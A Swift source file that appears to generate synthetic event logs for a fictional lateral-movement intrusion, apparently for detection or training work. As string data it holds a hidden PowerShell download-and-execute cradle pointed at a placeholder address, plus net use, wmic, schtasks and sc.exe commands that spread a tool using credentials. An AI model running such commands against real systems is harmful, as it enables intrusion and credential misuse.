/// How a tool starts its copy on another machine.
enum RemoteStart {
  /// `wmic /node process call create`; the connection is stamped so many milliseconds before event 1, or after it
  /// when negative.
  case management(earlier: Int)
  /// `schtasks /s`; the copy is a child of taskeng.
  case task
  /// A service of a random name, as psexec installs one; the copy is a child of that service.
  case service(String)
}

extension Story {
  /// Intruders move from machine to machine: mount a share, copy a tool, start it there.
  ///
  /// The first tool was there before the recording; every later one is a child of what started it. Tools, passwords
  /// and the way through the network are inventions.
  mutating func addMovements() -> SampleProcess {
    let first = addFirstTool()
    let hollis = move(
      first, to: StoryHosts.hollis, at: .notebookDay(18, 58, 10, 430), by: .management(earlier: 389))
    let escue = addEscueTool(startedBy: first)
    let brandvold = move(
      hollis, to: StoryHosts.brandvold, at: .notebookDay(19, 5, 21, 77), by: .management(earlier: 642))
    let carrasco = move(
      escue, to: StoryHosts.carrasco, at: .notebookDay(19, 8, 2, 915), by: .service("kqzrtvsa"))
    let jurado = move(brandvold, to: StoryHosts.jurado, at: .notebookDay(19, 14, 40, 208), by: .task)
    let minahan = move(
      carrasco, to: StoryHosts.minahan, at: .notebookDay(19, 21, 7, 561), by: .management(earlier: 1084))
    let kowalik = move(
      jurado, to: StoryHosts.kowalik, at: .notebookDay(19, 27, 33, 120), by: .management(earlier: -212))
    let dellinger = move(
      minahan, to: StoryHosts.dellinger, at: .notebookDay(19, 33, 12, 846), by: .service("wmbdxuoe"))
    let lindqvist = move(
      kowalik, to: StoryHosts.lindqvist, at: .notebookDay(19, 40, 55, 300), by: .management(earlier: 133))
    let ekholm = move(
      dellinger, to: StoryHosts.ekholm, at: .notebookDay(19, 48, 19, 52), by: .management(earlier: -341))
    _ = move(
      lindqvist, to: StoryHosts.controller, at: .notebookDay(19, 56, 44, 718), by: .management(earlier: 511))
    _ = move(ekholm, to: StoryHosts.iwasaki, at: .notebookDay(20, 4, 30, 401), by: .task)
    return first
  }

  /// The tool on sounder-pc, started in a chain of the user's own programs.
  private mutating func addFirstTool() -> SampleProcess {
    let host = StoryHosts.sounder
    let explorer = hosts[host].explorer
    let shell = start(
      StoryPath.cmd,
      "\"C:\\Windows\\system32\\cmd.exe\" /c \"\\\\abelard-pc\\public\\Rechnung, Mai <2017>.bat\"",
      on: host, by: explorer, at: .notebookDay(18, 52, 3, 214))
    let script = start(
      StoryPath.powershell,
      "powershell -nop -w hidden -c \"$u='http://203.0.113.77/a?b=1&c=2';\n  iex (New-Object Net.WebClient)"
        + ".DownloadString($u)\"", on: host, by: shell, at: .notebookDay(18, 52, 4, 101))
    let download = tcp(from: host, to: .v4(203, 0, 113, 77), 80)
    sense(connect(script, download, at: .notebookDay(18, 52, 5, 760)), later: 3)
    let tool = start(
      "C:\\lamp.exe", "C:\\lamp.exe -f", on: host, by: script, at: .notebookDay(18, 52, 40, 9),
      as: hosts[host].machineAccount, pid: 3316)
    record(5, script, at: .notebookDay(18, 52, 40, 512))
    record(5, shell, at: .notebookDay(18, 52, 40, 544))
    look(with: tool, from: .notebookDay(18, 53, 30, 60))
    return tool
  }

  /// What the notebook's WMIC call started on escue-pc, with the steps before the call.
  private mutating func addEscueTool(startedBy tool: SampleProcess) -> SampleProcess {
    mountAndCopy(tool, to: StoryHosts.escue, from: .notebookDay(19, 1, 44, 809))
    return receive(on: StoryHosts.escue, path: "C:\\cotton.exe", at: .notebookDay(19, 1, 48, 930))
  }

  /// One step of the way; returns the tool on the other machine.
  private mutating func move(
    _ tool: SampleProcess, to target: Int, at moment: Moment, by way: RemoteStart
  ) -> SampleProcess {
    mountAndCopy(tool, to: target, from: moment + -3800)
    switch way {
    case .management(let earlier): return moveByManagement(tool, to: target, at: moment, earlier: earlier)
    case .task: return moveByTask(tool, to: target, at: moment)
    case .service(let name): return moveByService(tool, to: target, at: moment, name: name)
    }
  }

  /// The connection of the two System processes and, on some machines, the `net use` and `copy` that it is for.
  private mutating func mountAndCopy(_ tool: SampleProcess, to target: Int, from moment: Moment) {
    let there = hosts[target]
    let person = there.user.name.split(separator: "\\").last ?? ""
    let share = tcp(from: tool.host, to: there.address, 445)
    sense(connect(hosts[tool.host].system, share, at: moment + 33))
    connect(there.system, share, at: moment + 33 + random.within(200...700), initiated: false)
    guard StoryHosts.explored.contains(tool.host) else { return }
    run(
      StoryPath.net, "\"net\" use \\\\\(there.name)\\C$ \(password()) /user:brawlco\\\(person)",
      on: tool.host,
      by: tool, at: moment, lasting: random.within(60...140))
    run(
      StoryPath.cmd, "\"cmd\" /c copy \"\(tool.program.path)\" \"\\\\\(there.name)\\C$\\cotton.exe\"",
      on: tool.host, by: tool, at: moment + 900, lasting: random.within(110...290))
  }

  private mutating func moveByManagement(
    _ tool: SampleProcess, to target: Int, at moment: Moment, earlier: Int
  ) -> SampleProcess {
    let there = hosts[target]
    let person = there.user.name.split(separator: "\\").last ?? ""
    let command =
      "\"wmic\" /node:\"\(there.name)\" /user:\"brawlco\\\(person)\" /password:\"\(password())\" "
      + "process call create \"C:\\cotton.exe -d -f\""
    let wmic = start(StoryPath.wmic, command, on: tool.host, by: tool, at: moment)
    let mapper = tcp(from: tool.host, to: there.address, 135)
    let call = tcp(from: tool.host, to: there.address, random.chance(500) ? 49_154 : 49_155)
    let stamped = moment + -earlier
    connect(hosts[tool.host].netsvcs, mapper, at: stamped + -6)
    connect(there.rpc, mapper, at: stamped + random.within(150...420), initiated: false)
    sense(connect(wmic, call, at: stamped), earlier > 0 ? .beforeCreate : .plain)
    connect(there.netsvcs, call, at: stamped + random.within(150...420), initiated: false)
    record(5, wmic, at: moment + random.within(380...460))
    return receive(on: target, path: "C:\\cotton.exe", at: moment + random.within(250...340))
  }

  private mutating func moveByTask(_ tool: SampleProcess, to target: Int, at moment: Moment) -> SampleProcess
  {
    let there = hosts[target]
    let command =
      "schtasks /create /s \(there.shortName) /tn \"Обновление системы\" /tr \"C:\\cotton.exe -d\" /sc once "
      + "/st 15:20 /ru SYSTEM /f"
    let task = start(StoryPath.system32 + "schtasks.exe", command, on: tool.host, by: tool, at: moment)
    let call = tcp(from: tool.host, to: there.address, 49_154)
    sense(connect(task, call, at: moment + -270), .beforeCreate)
    connect(there.netsvcs, call, at: moment + random.within(100...300), initiated: false)
    record(5, task, at: moment + 401)
    let engine = start(
      StoryPath.system32 + "taskeng.exe",
      "taskeng.exe {1D4E61F0-5C0B-4C5E-9A52-0F7D3A21C\(100 + target)} S-1-5-18:NT AUTHORITY\\System:Service:",
      on: target, by: there.netsvcs, at: moment + 5_120)
    let copy = start("C:\\cotton.exe", "C:\\cotton.exe -d", on: target, by: engine, at: moment + 5_260)
    look(with: copy, from: moment + 9_000)
    return copy
  }

  private mutating func moveByService(
    _ tool: SampleProcess, to target: Int, at moment: Moment, name: String
  ) -> SampleProcess {
    let there = hosts[target]
    let create =
      "sc.exe \\\\\(there.shortName) create \(name) binPath= \"%SystemRoot%\\\(name).exe\" start= demand"
    let control = start(StoryPath.system32 + "sc.exe", create, on: tool.host, by: tool, at: moment)
    let call = tcp(from: tool.host, to: there.address, 49_155)
    sense(connect(control, call, at: moment + -118), .beforeCreate)
    connect(there.services, call, at: moment + random.within(80...260), initiated: false)
    record(5, control, at: moment + 210)
    let service = start(
      "C:\\Windows\\\(name).exe", "C:\\Windows\\\(name).exe", on: target, by: there.services,
      at: moment + 1_340)
    let copy = start("C:\\cotton.exe", "C:\\cotton.exe -f", on: target, by: service, at: moment + 1_402)
    record(5, service, at: moment + 8_077)
    look(with: copy, from: moment + 6_000)
    return copy
  }

  /// The tool on the other machine, a child of the WMI provider.
  private mutating func receive(on target: Int, path: String, at moment: Moment) -> SampleProcess {
    let there = hosts[target]
    let provider = start(
      StoryPath.provider, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", on: target,
      by: there.rpc,
      at: moment, as: there.networkAccount)
    let copy = start(
      path, "\(path) -d -f", on: target, by: provider, at: moment + 96, as: there.user, directory: "C:\\")
    look(with: copy, from: moment + 4_500)
    record(5, provider, at: moment + 93_000)
    return copy
  }

  /// Discovery by a tool, its calls home, and what it does to other processes, files and the registry.
  private mutating func look(with tool: SampleProcess, from moment: Moment) {
    let commands: [(String, String)] = [
      ("whoami.exe", "whoami /all"), ("tasklist.exe", "tasklist /v /fo csv"),
      ("net.exe", "net group \"Domain Admins\" /domain"), ("netstat.exe", "netstat -ano"),
      ("nltest.exe", "nltest /dclist:brawlco"), ("reg.exe", "reg query HKLM\\SYSTEM\\Select /v Current"),
      ("systeminfo.exe", "systeminfo"), ("ipconfig.exe", "ipconfig /all"),
    ]
    let (exe, command) = random.pick(commands)
    let asked = moment + random.within(700...5_200)
    if StoryHosts.explored.contains(tool.host) {
      run(
        StoryPath.system32 + exe, command, on: tool.host, by: tool, at: asked,
        lasting: random.within(40...900))
    }
    let home = NetworkAddress.v4(198, 51, 100, UInt8(20 + random.below(4)))
    let reported = asked + random.within(20_000...70_000)
    sense(connect(tool, tcp(from: tool.host, to: home, 443), at: reported), later: random.below(30))
    let call = Routine.Act.call(.tcp, home, 443)
    goOn(tool, from: reported, doing: [call, call, .event(8), .event(10), .event(11), .event(13)])
  }

  private mutating func password() -> String {
    let letters = Array("abcdefghkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789%#]&<,.".utf8)
    return String(decoding: (0..<10).map { _ in random.pick(letters) }, as: UTF8.self)
  }
}
